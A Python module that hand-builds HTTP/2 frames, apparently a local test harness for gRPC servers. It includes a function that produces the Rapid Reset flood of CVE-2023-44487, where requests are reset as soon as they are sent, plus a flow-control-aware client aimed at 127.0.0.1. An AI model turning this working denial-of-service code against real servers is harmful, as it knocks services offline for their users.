"""Frames of HTTP/2 as an attacker writes them, without a library that would keep to the rules."""

import select
import socket
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE = 4  # a setting
FRAME = 16_384
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def opening():
    """What every connection begins with."""
    return PREFACE + frame(SETTINGS, 0, 0)


def literal(name, value):
    """A header field of HPACK, as it is: without indexing, without Huffman coding."""
    return b"\x00" + text(name) + text(value)


def text(value):
    if len(value) < 127:
        return bytes([len(value)]) + value
    size, rest = bytearray([127]), len(value) - 127
    while rest >= 128:
        size.append(rest % 128 + 128)
        rest //= 128
    size.append(rest)
    return bytes(size) + value


def headers(path, host, *more):
    """Those of a gRPC call, and more besides."""
    return b"".join(literal(name, value) for name, value in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", host),
        (b"content-type", b"application/grpc"), (b"te", b"trailers"), *more))


def reset_calls(first, count, fields):
    """Calls that are reset as soon as they are made (CVE-2023-44487), from stream `first` on."""
    return b"".join(frame(HEADERS, END_HEADERS, stream, fields) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                    for stream in range(first, first + 2 * count, 2))


class Connection:
    """One connection that sends as much as it may. `windows`: what each stream may send still; `answered`: streams on which a
    message has come; `ended`: those that the server has ended; `open`: whether the server keeps the connection."""

    def __init__(self, port, source="127.0.0.1", timeout=60):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=timeout, source_address=(source, 0))
        self.window = 65_535
        self.initial_window = 65_535
        self.windows = {}
        self.answered = set()
        self.ended = set()
        self.open = True
        self.next_stream = 1
        self.sent = 0
        self._in = b""
        self._send(opening())

    def close(self):
        self.socket.close()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()

    def _send(self, data):
        try:
            self.socket.sendall(data)
        except OSError:
            self.open = False

    def start(self, block, end=False):
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        self.windows[stream] = self.initial_window
        self._send(frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block))
        return stream

    def send_data(self, stream, data, end=False):
        """Sends what the windows allow; returns how much that was."""
        done = 0
        while self.open and stream not in self.ended and done < len(data):
            size = min(len(data) - done, self.windows[stream], self.window, FRAME)
            if size <= 0:
                break
            last = end and done + size == len(data)
            self._send(frame(DATA, END_STREAM if last else 0, stream, data[done:done + size]))
            self.windows[stream] -= size
            self.window -= size
            done += size
        self.sent += done
        return done

    def listen(self, seconds):
        """Takes what comes within that time, or at once when there is something."""
        while self.open and select.select([self.socket], [], [], seconds)[0]:
            seconds = 0
            try:
                data = self.socket.recv(1 << 20)
            except OSError:
                data = b""
            if not data:
                self.open = False
                return
            self._in += data
            while len(self._in) >= 9:
                size = int.from_bytes(self._in[:3], "big")
                if len(self._in) < 9 + size:
                    break
                kind, flags, stream = self._in[3], self._in[4], int.from_bytes(self._in[5:9], "big") & 0x7FFFFFFF
                self._take(kind, flags, stream, self._in[9:9 + size])
                self._in = self._in[9 + size:]

    def _take(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            for i in range(0, len(payload), 6):
                name, value = struct.unpack(">HI", payload[i:i + 6])
                if name == INITIAL_WINDOW_SIZE:
                    for known in self.windows:
                        self.windows[known] += value - self.initial_window
                    self.initial_window = value
            self._send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self._send(frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE:
            more = int.from_bytes(payload, "big") & 0x7FFFFFFF
            if stream == 0:
                self.window += more
            elif stream in self.windows:
                self.windows[stream] += more
        elif kind == DATA and payload:
            self.answered.add(stream)
        elif kind == RST_STREAM or kind == HEADERS and flags & END_STREAM:
            self.ended.add(stream)
        elif kind == GOAWAY:
            self.open = False
